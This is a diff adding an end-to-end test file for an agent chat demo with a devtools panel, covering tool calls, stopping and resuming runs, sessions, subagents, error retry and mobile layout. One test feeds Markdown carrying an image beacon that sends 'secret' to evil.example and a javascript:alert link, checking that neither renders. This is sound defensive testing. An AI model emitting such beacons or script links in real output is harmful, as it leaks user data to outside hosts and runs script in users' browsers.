@@ -1,0 +1,153 @@
+import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
+import { type DemoServer, startDemo } from './demo-server.ts';
+import { closeBrowser, visit, type Visitor } from './visitor.ts';
+
+let server: DemoServer;
+let visitor: Visitor;
+
+beforeAll(async () => {
+  server = await startDemo({ VITRINE_DEMO_PACE_MS: '12' });
+}, 60_000);
+afterAll(async () => {
+  await closeBrowser();
+  server.stop();
+});
+afterEach(async () => {
+  expect(visitor.complaints).toEqual([]);
+  await visitor.context.close();
+});
+
+describe('a person without any key', () => {
+  it('chats, and sees the tool call in the chat and in the panel', async () => {
+    visitor = await visit(server.url);
+    const { page, conversation, say } = visitor;
+    await page.getByText('Offline demo model', { exact: true }).waitFor();
+    await say('What is 12 * (3 + 4)?');
+    await conversation.getByText('The result is 84.').waitFor();
+    const call = conversation.locator('.tool-call');
+    await call.locator('summary').click();
+    expect(await call.innerText()).toMatch(/calculator[\s\S]*12 \* \(3 \+ 4\)[\s\S]*84/);
+
+    const panel = page.getByRole('region', { name: 'Vitrine devtools' });
+    await panel.getByRole('listbox', { name: 'Steps' }).getByRole('option').first().click();
+    expect(await panel.getByRole('region', { name: 'Step 1' }).innerText()).toMatch(
+      /calculator[\s\S]*completed[\s\S]*84/,
+    );
+    await panel.getByRole('tab', { name: 'State' }).click();
+    await panel.getByRole('treeitem', { name: /stepExecutions/ }).click();
+    await panel.getByRole('treeitem', { name: /StepExecution tool-execution/ }).waitFor();
+    await panel.getByRole('tab', { name: 'Stop' }).click();
+    await panel.getByText('It finished after 2 steps: The model gave its final answer.').waitFor();
+  });
+
+  it('stops a running answer, keeps its part, and sees why', async () => {
+    visitor = await visit(server.url);
+    const { page, conversation, say } = visitor;
+    await say('Write a long answer');
+    await conversation.getByText('An agent is a loop').first().waitFor();
+    await page.getByRole('button', { name: 'Stop' }).click();
+    await conversation.getByText('Stopped by you').waitFor();
+    await conversation.getByText('This answer broke off.').waitFor();
+    const kept = await conversation.innerText();
+    await page.getByRole('tab', { name: 'Stop' }).click();
+    await page.getByText(/It was stopped after 1 step because of user-requested/).waitFor();
+    await page.reload();
+    await conversation.getByText('This answer broke off.').waitFor();
+    expect((await conversation.innerText()).slice(0, 200)).toBe(kept.slice(0, 200));
+  });
+
+  it('reloads, finds the session again, and goes on with its notes', async () => {
+    visitor = await visit(server.url);
+    const { page, conversation, say } = visitor;
+    await say('Remember that the demo is on Friday');
+    await conversation.getByText('Noted. There is 1 note now.').waitFor();
+    await page.reload();
+    await conversation.getByText('Noted. There is 1 note now.').waitFor();
+    await say('Show my notes');
+    await conversation.getByText(/Your notes:.*the demo is on Friday/).waitFor();
+    await page.getByText('run 2').waitFor();
+  });
+
+  it('takes up a run that a reload interrupted', async () => {
+    visitor = await visit(server.url);
+    const { page, conversation, say } = visitor;
+    await say('Write a long answer');
+    await conversation.getByText('An agent is a loop').first().waitFor();
+    await page.reload();
+    await page.getByText('The last run was interrupted').waitFor();
+    await page.getByRole('button', { name: 'Resume' }).click();
+    await conversation.getByText('An agent is a loop').first().waitFor();
+    await page.getByRole('button', { name: 'Stop' }).click();
+    await conversation.getByText('Stopped by you').waitFor();
+  });
+
+  it('delegates to a subagent, whose steps the panel keeps', async () => {
+    visitor = await visit(server.url);
+    const { page, conversation, say } = visitor;
+    await say('Please research 2 + 3');
+    await conversation.getByText('delegate', { exact: true }).first().waitFor();
+    await conversation.getByText(/answered:/).waitFor();
+    const panel = page.getByRole('region', { name: 'Vitrine devtools' });
+    await panel.getByRole('listbox', { name: 'Steps' }).getByRole('option').first().click();
+    await panel.getByText(/Subagent: completed, 2 steps/).waitFor();
+  });
+
+  it('keeps several sessions, renames and deletes them', async () => {
+    visitor = await visit(server.url);
+    const { page, conversation, say } = visitor;
+    const list = page.getByRole('navigation', { name: 'Sessions' });
+    await say('What is 1 + 1?');
+    await conversation.getByText('The result is 2.').waitFor();
+    await list.getByRole('button', { name: 'New session' }).click();
+    await page.getByText('What would you like to see?').waitFor();
+    await say('What is 2 + 2?');
+    await conversation.getByText('The result is 4.').waitFor();
+    await list.getByRole('button', { name: 'Rename What is 2 + 2?' }).click();
+    await list.getByLabel('Title of the session').fill('Sums');
+    await page.keyboard.press('Enter');
+    await list.getByText('Sums').waitFor();
+    await list.getByText('What is 1 + 1?', { exact: true }).click();
+    await conversation.getByText('The result is 2.').waitFor();
+    await list.getByText('Sums').hover();
+    await list.getByRole('button', { name: 'Delete Sums' }).click();
+    await list.getByRole('button', { name: 'Delete', exact: true }).click();
+    await vi.waitFor(async () => expect(await list.getByText('Sums').count()).toBe(0));
+    await page.reload();
+    await conversation.getByText('The result is 2.').waitFor();
+    expect(await list.getByText('Sums').count()).toBe(0);
+  });
+
+  it('is told about an error and retries', async () => {
+    visitor = await visit(server.url);
+    const { page, conversation, say } = visitor;
+    await say('Please simulate an error');
+    const alert = page.getByRole('alert');
+    await alert.getByText(/simulated an error/).waitFor();
+    await alert.getByRole('button', { name: 'Retry' }).click();
+    await conversation.getByText('This time it worked').waitFor();
+    expect(await alert.count()).toBe(0);
+  });
+
+  it('loads nothing from elsewhere, whatever the Markdown says', async () => {
+    visitor = await visit(server.url);
+    const { page, conversation, say } = visitor;
+    await say(
+      '![beacon](https://evil.example/?q=secret) <img src="https://evil.example/2"> [x](javascript:alert(1))',
+    );
+    await conversation.getByText(/You said/).waitFor();
+    await page.getByRole('button', { name: 'Send' }).waitFor();
+    expect(await page.locator('.markdown img').count()).toBe(0);
+    expect(await page.locator('.markdown a[href^="javascript"]').count()).toBe(0);
+  });
+
+  it('finds everything on a phone', async () => {
+    visitor = await visit(server.url, { viewport: { width: 390, height: 844 } });
+    const { page, conversation, say } = visitor;
+    await say('What is 3 + 3?');
+    await conversation.getByText('The result is 6.').waitFor();
+    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(390);
+    await page.getByRole('button', { name: 'Sessions', exact: true }).click();
+    await page.getByRole('button', { name: 'New session' }).click();
+    await page.getByText('What would you like to see?').waitFor();
+  });
+});
